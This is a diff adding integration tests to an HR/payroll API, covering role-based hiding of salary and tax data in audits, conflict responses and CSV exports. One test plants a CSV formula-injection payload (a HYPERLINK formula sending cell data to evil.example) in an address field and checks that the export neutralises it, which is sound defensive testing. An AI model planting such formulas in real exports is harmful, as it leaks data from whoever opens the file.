@@ -1,3 +1,4 @@
+import { EMPLOYEE_CSV_COLUMNS, parseCsv } from '@lonsam/domain/employees/employee-csv';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildTestApp, type TestApp } from '../../db/test-db.ts';
 import {
@@ -521,6 +522,104 @@ describe('roles: admin, manager of a team, user for self, other companies never'
         .statusCode,
     ).toBe(404);
     expect((await ownCompany('GET', '/employees')).json().total).toBe(0);
+  });
+
+  it("a manager's audit of a team member leaves out salaries and tax settings, and says something is hidden", async () => {
+    const before = (await asAdmin('GET', `/employees/${teamMember.id}`)).json();
+    const tax = await asAdmin('PATCH', `/employees/${teamMember.id}`, {
+      version: before.version,
+      tax: { method: 'adjusted-percent', percent: 37 },
+      city: 'Uppsala',
+    });
+    expect(tax.statusCode, tax.body).toBe(200);
+    const [employment] = (await asAdmin('GET', `/employees/${teamMember.id}/employments`)).json();
+    const raise = await asAdmin(
+      'POST',
+      `/employees/${teamMember.id}/employments/${employment.id}/salary-rows`,
+      {
+        version: employment.version,
+        validFrom: '2026-07-01',
+        amountOre: 7_777_700,
+      },
+    );
+    expect(raise.statusCode, raise.body).toBe(201);
+
+    const response = await asManager('GET', `/employees/${teamMember.id}/audit`);
+    expect(response.statusCode, response.body).toBe(200);
+    expect(response.body).not.toMatch(/amountOre|7777700|3200000|salaryRows|percent|"tax"|pension/);
+    const events = response.json();
+    const byAction = (action: string) => events.find((event: { action: string }) => event.action === action);
+    expect(byAction('salary-row.added')).toMatchObject({ before: null, after: null, hiddenChanges: true });
+    expect(byAction('employee.updated')).toMatchObject({
+      before: { city: 'Stockholm' },
+      after: { city: 'Uppsala' },
+      hiddenChanges: true,
+    });
+    expect(byAction('employment.created')).toMatchObject({
+      after: { position: 'Kock' },
+      hiddenChanges: true,
+    });
+    expect(byAction('employee.created').after).toMatchObject({ lastName: 'Teammedlem' });
+
+    // The admin, who may read everything, sees it all and nothing hidden.
+    const full = (await asAdmin('GET', `/employees/${teamMember.id}/audit`)).json();
+    expect(full.every((event: { hiddenChanges: boolean }) => event.hiddenChanges === false)).toBe(true);
+    expect(full.find((event: { action: string }) => event.action === 'salary-row.added').after).toMatchObject(
+      {
+        validFrom: '2026-07-01',
+        amountOre: 7_777_700,
+      },
+    );
+  });
+
+  it("an employee's 409 answer holds exactly what their own GET shows, no hidden field", async () => {
+    const stored = (await asAdmin('GET', `/employees/${own.id}`)).json();
+    const hidden = await asAdmin('PATCH', `/employees/${own.id}`, {
+      version: stored.version,
+      customFields: { Skostorlek: '43' },
+      growthSupport: true,
+    });
+    expect(hidden.statusCode, hidden.body).toBe(200);
+    const stale = await asEmployee('PATCH', `/employees/${own.id}`, { version: 1, city: 'Lund' });
+    expect(stale.statusCode, stale.body).toBe(409);
+    expect(stale.json().code).toBe('VERSION_CONFLICT');
+    const current = stale.json().current;
+    expect(current).not.toHaveProperty('customFields');
+    expect(current).not.toHaveProperty('growthSupport');
+    expect(current).toEqual((await asEmployee('GET', `/employees/${own.id}`)).json());
+    expect(current).toEqual((await asEmployee('GET', '/my-employee')).json());
+  });
+
+  it('a formula an employee plants in their address is exported as text', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&C2,"Öppna")';
+    const mine = (await asEmployee('GET', '/my-employee')).json();
+    const planted = await asEmployee('PATCH', `/employees/${own.id}`, {
+      version: mine.version,
+      streetAddress: formula,
+    });
+    expect(planted.statusCode, planted.body).toBe(200);
+
+    const response = await asAdmin('GET', '/employees/export?search=Självsson');
+    expect(response.statusCode, response.body).toBe(200);
+    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&C2,""Öppna"")"`);
+    // No cell of the file starts with what a spreadsheet would run.
+    const cells = [...response.body.replace('\uFEFF', '').matchAll(/(?:^|[;\n])"((?:[^"]|"")*)"/g)];
+    expect(cells.length).toBeGreaterThan(EMPLOYEE_CSV_COLUMNS.length);
+    expect(cells.filter(([, cell]) => /^[=+\-@\t\r]/.test(cell!))).toEqual([]);
+    // The product's reader gives the typed value back, so the file can be imported again.
+    const [header, row] = parseCsv(response.body);
+    expect(row![header!.indexOf('gatuadress')]).toBe(formula);
+  });
+
+  it("a manager's export shows the columns of the team member's GET, no more", async () => {
+    const response = await asManager('GET', '/employees/export?search=Teammedlem');
+    expect(response.statusCode, response.body).toBe(200);
+    const [header, row] = parseCsv(response.body);
+    const cell = (column: string) => row![header!.indexOf(column)];
+    const shown = (await asManager('GET', `/employees/${teamMember.id}`)).json();
+    expect(shown).not.toHaveProperty('tax');
+    expect([cell('skattetabell'), cell('skattekolumn'), cell('lön')]).toEqual(['', '', '']);
+    expect([cell('telefon'), cell('ort')]).toEqual([shown.phone, shown.city]);
   });
 });
 
